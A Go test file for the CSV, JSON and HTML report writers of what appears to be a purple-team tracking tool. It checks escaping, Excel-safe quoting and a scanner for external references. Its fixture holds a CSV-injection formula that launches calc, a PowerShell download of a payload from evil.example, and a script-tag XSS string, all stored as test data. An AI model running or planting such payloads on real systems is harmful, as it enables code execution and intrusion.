package results_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/purplebook/purplebook/app/db"
	"github.com/purplebook/purplebook/app/missions"
	"github.com/purplebook/purplebook/app/patch"
	"github.com/purplebook/purplebook/app/results"
	"github.com/purplebook/purplebook/app/settings"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// reportMission is a mission whose text fields carry what breaks naive
// writers: quotes, commas, line breaks (LF and CRLF), non-ASCII text, HTML,
// a leading "=" (a spreadsheet formula), a URL; plus evidence.
func reportMission(t *testing.T, e *env) (string, map[string]string) {
	t.Helper()
	mid, _ := missionWithResults(t, e)
	tid := e.addTest(mid, `Weird "name", with <b>HTML</b> & more`, "T1105")
	start := e.clock.Now()
	e.patch(mid, tid, missions.TestPatch{
		StartedAt: patch.Value(db.NewTime(start)), State: patch.Value("executed"),
		Command:  patch.Value(`=cmd|' /C calc'!A0` + "\npowershell -c \"iwr https://evil.example/payload.ps1 -OutFile p.ps1\""),
		Output:   patch.Value("USER INFORMATION\r\n----------------\r\nlab\\rita, Ünïcödé ✓\n<script>alert(1)</script>"),
		RedNotes: patch.Value("-starts with a minus; @at too"), TargetHost: patch.Value("ws01"), TargetIP: patch.Value("10.0.0.15")})
	e.assess(mid, tid, ctl{control: "EDR", level: "alerted", expected: true, alerted: at(start.Add(90e9))},
		ctl{control: "Mail gateway", level: "none"})
	up, err := e.set.Evidence.Begin(e.ctx, e.lead, mid, tid)
	require.NoError(t, err)
	content := []byte("fake screenshot bytes")
	require.NoError(t, up.ReadFile(bytes.NewReader(content), "screen, shot.png"))
	require.NoError(t, up.SetCaption("the alert"))
	_, err = up.Commit(e.ctx)
	require.NoError(t, err)
	sum := sha256.Sum256(content)
	return mid, map[string]string{"test": tid, "sha256": hex.EncodeToString(sum[:])}
}

func col(header []string, name string) int {
	for i, h := range header {
		if h == name {
			return i
		}
	}
	return -1
}

// csvText is what encoding/csv reads back from a cell: it folds CRLF inside
// quoted fields to LF (and the writer, in CRLF mode, writes no lone CR).
func csvText(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "")
}

func TestCSVParsesBackToTheData(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	mid, extra := reportMission(t, e)
	rep, err := e.set.Results.MissionReport(e.ctx, e.lead, mid)
	require.NoError(t, err)
	for _, bom := range []bool{false, true} {
		var buf bytes.Buffer
		require.NoError(t, rep.WriteCSV(&buf, results.CSVOptions{BOM: bom}))
		raw := buf.Bytes()
		if bom {
			require.True(t, bytes.HasPrefix(raw, []byte{0xEF, 0xBB, 0xBF}), "Excel's BOM")
			raw = raw[3:]
		} else {
			require.False(t, bytes.HasPrefix(raw, []byte{0xEF, 0xBB, 0xBF}))
		}
		assert.True(t, bytes.HasSuffix(raw, []byte("\r\n")), "RFC 4180 line ends")
		r := csv.NewReader(bytes.NewReader(raw))
		r.FieldsPerRecord = 0 // every record as wide as the header
		recs, err := r.ReadAll()
		require.NoError(t, err)
		header := recs[0]
		assert.Equal(t, results.CSVHeader(rep.Controls), header)
		assert.Contains(t, header, "Mail gateway: outcome")
		rows := recs[1:]
		require.Len(t, rows, len(rep.Tests))
		// Every test, compared with what the missions service says about it.
		for _, row := range rows {
			id := row[col(header, "test_id")]
			tt, err := e.set.Missions.GetTest(e.ctx, e.lead, mid, id)
			require.NoError(t, err)
			get := func(name string) string { return row[col(header, name)] }
			assert.Equal(t, tt.Name, get("name"))
			assert.Equal(t, tt.State, get("state"))
			assert.Equal(t, csvText(tt.Command), get("command_run"))
			assert.Equal(t, csvText(tt.Output), get("output"))
			assert.Equal(t, csvText(tt.RedNotes), get("red_notes"))
			assert.Equal(t, tt.TargetHost, get("target_host"))
			assert.Equal(t, tt.TargetIP, get("target_ip"))
			assert.Equal(t, tt.BlueNotes, get("blue_notes"))
			assert.Equal(t, mid, get("mission_id"))
			if tt.StartedAt != nil {
				assert.Equal(t, tt.StartedAt.String(), get("started_at"))
			}
			var tags []string
			for _, g := range tt.MitreTags {
				tags = append(tags, g.ExternalID)
			}
			assert.Equal(t, strings.Join(tags, "; "), get("techniques"))
			if tt.Outcome != nil {
				assert.Equal(t, tt.Outcome.Key, get("outcome"))
			} else {
				assert.Empty(t, get("outcome"))
			}
			seen := map[string]bool{}
			for _, o := range tt.Outcomes {
				seen[o.Control] = true
				assert.Equal(t, o.Level.Key, get(o.Control+": outcome"))
				assert.Equal(t, map[bool]string{true: "true", false: "false"}[o.Expected], get(o.Control+": expected"))
				assert.Equal(t, o.AlertName, get(o.Control+": alert_name"))
				if o.AlertedAt != nil {
					assert.Equal(t, o.AlertedAt.String(), get(o.Control+": alerted_at"))
				}
			}
			for _, c := range rep.Controls {
				if !seen[c] {
					assert.Empty(t, get(c+": outcome"), "no outcome for %s", c)
				}
			}
			if id == extra["test"] {
				assert.Contains(t, get("evidence"), extra["sha256"])
				assert.Equal(t, "90", get("time_to_alert_s"))
			}
		}
	}
	// Excel-safe: formula-looking cells start with ' — and only those.
	var buf bytes.Buffer
	require.NoError(t, rep.WriteCSV(&buf, results.CSVOptions{BOM: true, ExcelSafe: true}))
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	require.NoError(t, err)
	plain := rep.CSVRows()
	for i, row := range recs[1:] {
		for j, cell := range row {
			want := csvText(plain[i][j])
			if want != "" && strings.ContainsRune("=+-@", rune(want[0])) {
				want = "'" + want
			}
			assert.Equal(t, want, cell)
		}
	}
	for _, row := range recs[1:] {
		if row[col(recs[0], "test_id")] == extra["test"] {
			assert.True(t, strings.HasPrefix(row[col(recs[0], "command_run")], "'=cmd"))
			assert.True(t, strings.HasPrefix(row[col(recs[0], "red_notes")], "'-starts"))
		}
	}
}

func TestJSONReport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	mid, extra := reportMission(t, e)
	rep, err := e.set.Results.MissionReport(e.ctx, e.lead, mid)
	require.NoError(t, err)
	raw, err := json.Marshal(rep)
	require.NoError(t, err)
	var doc struct {
		Format  string `json:"format"`
		Mission struct {
			ID string `json:"id"`
		} `json:"mission"`
		Results struct {
			Summary results.Result `json:"summary"`
		} `json:"results"`
		Tests []struct {
			ID  string `json:"id"`
			Red struct {
				Output string `json:"output"`
			} `json:"red"`
			Blue struct {
				Outcomes []struct {
					Control string `json:"control"`
					Outcome string `json:"outcome"`
				} `json:"outcomes"`
			} `json:"blue"`
			Evidence []struct {
				SHA256 string `json:"sha256"`
			} `json:"evidence"`
		} `json:"tests"`
	}
	require.NoError(t, json.Unmarshal(raw, &doc))
	assert.Equal(t, "purplebook-results-report", doc.Format)
	assert.Equal(t, mid, doc.Mission.ID)
	assert.Equal(t, len(doc.Tests), doc.Results.Summary.Tests)
	for _, tt := range doc.Tests {
		got, err := e.set.Missions.GetTest(e.ctx, e.lead, mid, tt.ID)
		require.NoError(t, err)
		assert.Equal(t, got.Output, tt.Red.Output, "exact text, CR LF included")
		assert.Len(t, tt.Blue.Outcomes, len(got.Outcomes))
		if tt.ID == extra["test"] {
			require.Len(t, tt.Evidence, 1)
			assert.Equal(t, extra["sha256"], tt.Evidence[0].SHA256)
		}
	}
}

// externalRef finds anything in an HTML document that would make a browser
// fetch something: src/href/srcset/… with a scheme or a protocol-relative
// URL, CSS url() and @import, and elements that load or run things.
var externalRef = []*regexp.Regexp{
	regexp.MustCompile(`(?i)\b(src|href|srcset|action|formaction|poster|background|data|xlink:href|manifest|ping)\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)`),
	regexp.MustCompile(`(?i)url\(\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)`),
	regexp.MustCompile(`(?i)@import`),
	regexp.MustCompile(`(?i)<\s*(script|link|iframe|object|embed|base|meta\s+http-equiv)\b`),
}

func scanExternal(html string) []string {
	var out []string
	for _, re := range externalRef {
		for _, loc := range re.FindAllStringIndex(html, -1) {
			m := html[loc[0]:loc[1]]
			if strings.HasSuffix(strings.ToLower(m), "data:") && reInlineImage.MatchString(html[loc[1]-5:]) {
				continue // the inline logo
			}
			out = append(out, m)
		}
	}
	return out
}

var reInlineImage = regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,`)

func TestHTMLReportIsSelfContained(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	mid, extra := reportMission(t, e)
	rep, err := e.set.Results.MissionReport(e.ctx, e.lead, mid)
	require.NoError(t, err)
	var buf bytes.Buffer
	require.NoError(t, rep.WriteHTML(&buf))
	html := buf.String()
	assert.Empty(t, scanExternal(html), "no external reference")
	assert.NotContains(t, html, "<script>alert(1)</script>", "user text is escaped")
	assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;")
	assert.Contains(t, html, "https://evil.example/payload.ps1", "a URL in a command stays text")
	assert.Contains(t, html, "@media print")
	assert.Contains(t, html, "@page")
	assert.Contains(t, html, "<svg")
	assert.NotContains(t, html, "ZgotmplZ", "no value was rejected by the template escaper")
	assert.Contains(t, html, extra["sha256"])
	assert.Contains(t, html, "Executive summary")
	assert.Contains(t, html, "Methodology and scoring")
	// Not detected first in the findings.
	findings := html[strings.Index(html, `id="findings"`):]
	assert.Less(t, strings.Index(findings, "Not detected ("), strings.Index(findings, "Detected ("))
	// The scanner finds what it must.
	for _, bad := range []string{`<img src="https://x.example/a.png">`, `<link rel=stylesheet href=//cdn.example/x.css>`,
		`<div style="background:url('http://x/y')">`, `<style>@import "x.css";</style>`, `<script src=/app.js></script>`} {
		assert.NotEmpty(t, scanExternal(bad), bad)
	}
}

func TestHTMLReportLogo(t *testing.T) {
	t.Parallel()
	e := newEnvWith(t, "enterprise-attack-small.json")
	mid := e.mission("Op Logo", "")
	logo := "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="
	_, _, err := e.set.Settings.Put(e.ctx, e.lead.Actor, settings.OrganisationName, json.RawMessage(`"ACME Corp"`))
	require.NoError(t, err)
	_, _, err = e.set.Settings.Put(e.ctx, e.lead.Actor, settings.OrganisationLogo, json.RawMessage(`"`+logo+`"`))
	require.NoError(t, err)
	rep, err := e.set.Results.MissionReport(e.ctx, e.lead, mid)
	require.NoError(t, err)
	assert.Equal(t, "ACME Corp", rep.Organisation)
	var buf bytes.Buffer
	require.NoError(t, rep.WriteHTML(&buf))
	assert.Contains(t, buf.String(), `<img src="`+logo+`"`)
	assert.Contains(t, buf.String(), "ACME Corp")
	assert.Empty(t, scanExternal(buf.String()))
	// Anything but an inline raster image is left out (settings refuse it too).
	results.SetReportOrganisation(rep, "ACME Corp", "https://acme.example/logo.png")
	buf.Reset()
	require.NoError(t, rep.WriteHTML(&buf))
	assert.NotContains(t, buf.String(), "<img")
	assert.Contains(t, buf.String(), "The mission has no tests.")
}
